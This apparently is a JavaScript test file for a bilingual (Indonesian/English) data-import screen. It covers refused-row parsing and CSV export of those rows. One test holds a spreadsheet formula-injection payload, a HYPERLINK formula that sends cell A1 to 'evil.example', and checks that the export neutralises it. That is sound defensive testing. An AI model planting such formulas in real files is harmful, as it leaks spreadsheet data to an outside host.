// The "Impor data" screen (js/online/imports.js): its words in both languages, and the refused rows read
// from both answers the server gives (a check's list, a refused import's 422).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { installDom } from './fakedom.mjs';

test('every word of the import screen is in Bahasa Indonesia and English', async () => {
  installDom();
  const { W } = await import('../../static/pwa/js/online/imports.js');
  for (const [key, pair] of Object.entries(W)) {
    assert.equal(pair.length, 2, key);
    assert.ok(pair.every((s) => typeof s === 'string' && s.trim()), key);
  }
});

test('refused rows come from a check (a list) and from a refused import (rows by number), in row order, with their names', async () => {
  installDom();
  const { refusedRows } = await import('../../static/pwa/js/online/imports.js');
  const check = { errors: [{ row: 4, name: 'Siti', errors: { 'BB (kg)': ['terlalu besar'] } }] };
  assert.deepEqual(refusedRows(check), check.errors);
  const refused = { detail: '2 dari 5 baris ditolak', errors: { rows: { 12: { nama: ['x'] }, 3: { nik: ['y'] } } },
    row_names: { 3: 'Rara Putri' } };
  assert.deepEqual(refusedRows(refused), [{ row: 3, name: 'Rara Putri', errors: { nik: ['y'] } },
    { row: 12, name: null, errors: { nama: ['x'] } }]);
  assert.deepEqual(refusedRows({ errors: { file: ['tidak terbaca'] } }), []);
  assert.deepEqual(refusedRows(null), []);
});

test('the refused rows download as a CSV an Indonesian spreadsheet opens: every row, one line per column', async () => {
  installDom();
  const { refusedCsv } = await import('../../static/pwa/js/online/imports.js');
  const rows = [{ row: 4, name: 'Rara; "Putri"', errors: { 'BB (kg)': ['harus antara 0.5 dan 70 kg', '8100 tampaknya dalam gram'], NIK: ['tidak sah'] } },
    { row: 9, name: null, errors: { nama: ['kemungkinan anak yang sama dengan "Sari"; isi NIK'] } }];
  const text = refusedCsv(rows);
  assert.ok(text.startsWith('\ufeffBaris;Nama;Kolom;Alasan\r\n'), 'the mark Excel reads UTF-8 by, then the header');
  assert.deepEqual(text.slice(1).trimEnd().split('\r\n').slice(1), [
    '4;"Rara; ""Putri""";BB (kg);"harus antara 0.5 dan 70 kg; 8100 tampaknya dalam gram"',
    '4;"Rara; ""Putri""";NIK;tidak sah',
    '9;;nama;"kemungkinan anak yang sama dengan ""Sari""; isi NIK"']);
});

test('a refused row naming a formula downloads as text, not a formula a spreadsheet runs', async () => {
  installDom();
  const { refusedCsv } = await import('../../static/pwa/js/online/imports.js');
  // the child's name and a column heading as the file gave them, and a formula after the ";" a spreadsheet splits on
  const rows = [{ row: 2, name: '=HYPERLINK("http://evil.example/?"&A1,"Klik")', errors: { '@SUM(A1)': ['harus L atau P'] } },
    { row: 3, name: 'Ani; =1+1', errors: { JK: ['-'] } }];
  assert.deepEqual(refusedCsv(rows).slice(1).trimEnd().split('\r\n').slice(1), [
    `2;"'=HYPERLINK(""http://evil.example/?""&A1,""Klik"")";'@SUM(A1);harus L atau P`,
    `3;"Ani;' =1+1";JK;'-`]);
});

test('the rows skipped as no child (totals lines) are listed from a check and from a refused import alike', async () => {
  installDom();
  const { skippedList } = await import('../../static/pwa/js/online/imports.js');
  // a refused import's 422 carries skipped_rows beside errors.rows, as a check's answer does
  const refused = { errors: { rows: { 3: { JK: ['x'] } } }, skipped_rows: [{ row: 4, reason: 'dilewati: baris jumlah ("Jumlah"), bukan anak' }] };
  const [list] = skippedList(refused.skipped_rows);
  assert.equal(list.id, 'import-skipped');
  assert.deepEqual(list.kids.map((li) => li.textContent), ['Baris 4: dilewati: baris jumlah ("Jumlah"), bukan anak']);
  assert.deepEqual(skippedList([]), []);
  assert.deepEqual(skippedList(undefined), []);
});
